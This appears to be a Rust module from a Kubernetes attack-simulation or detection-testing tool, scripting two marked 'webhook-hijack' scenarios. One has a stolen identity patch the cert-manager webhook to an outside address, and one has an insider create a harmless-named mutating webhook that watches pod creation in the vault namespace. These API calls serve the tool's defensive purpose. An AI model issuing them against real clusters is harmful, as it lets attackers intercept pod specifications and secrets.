//! Admission webhooks are turned into a tap.
//!
//! **Plain**: an existing webhook is pointed to an address outside. **Living off the land**: a new one with a
//! harmless name looks at the vault's pods.

use serde_json::json;

use crate::cast::person;
use crate::clock::Moment;
use crate::dice::Dice;
use crate::timetable::{Pace, Timetable, attack};

const HOOKS: &str = "/apis/admissionregistration.k8s.io/v1";

/// Both variants, on different days.
pub fn plan(table: &mut Timetable, dice: &mut Dice) {
    let outside = format!("203.0.113.{}", dice.between(10, 250));
    let stolen = person("priya").from(&outside);
    let hook = format!("{HOOKS}/validatingwebhookconfigurations/cert-manager-webhook");
    let url = format!("https://{outside}:8443/validate");
    let calls = vec![
        stolen.get(hook.clone()),
        stolen.json_patch(
            hook.clone(),
            json!([{"op": "replace", "path": "/webhooks/0/clientConfig", "value": {"url": url}}]),
        ),
        stolen.get(hook),
    ];
    let at = Moment::at(4, 1, dice.between(0, 60));
    table.add_marked(
        at,
        Pace::AtOnce,
        &attack("webhook-hijack", "plain", "T1546"),
        calls,
    );

    let insider = person("jonas");
    let made = json!({"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
        "metadata": {"name": "pod-defaults"},
        "webhooks": [{"name": "defaults.platform.shop.example", "admissionReviewVersions": ["v1"],
            "sideEffects": "None", "failurePolicy": "Ignore", "timeoutSeconds": 1,
            "clientConfig": {"url": "https://defaults.platform-tools.example/mutate"},
            "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "vault"}},
            "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"],
                       "resources": ["pods"]}]}]});
    let calls = vec![insider.post(
        format!("{HOOKS}/mutatingwebhookconfigurations?fieldManager=kubectl-create"),
        made,
    )];
    let at = Moment::at(3, 13, dice.between(0, 60));
    let mark = attack("webhook-hijack", "living-off-the-land", "T1546");
    table.add_marked(at, Pace::AtOnce, &mark, calls);
}
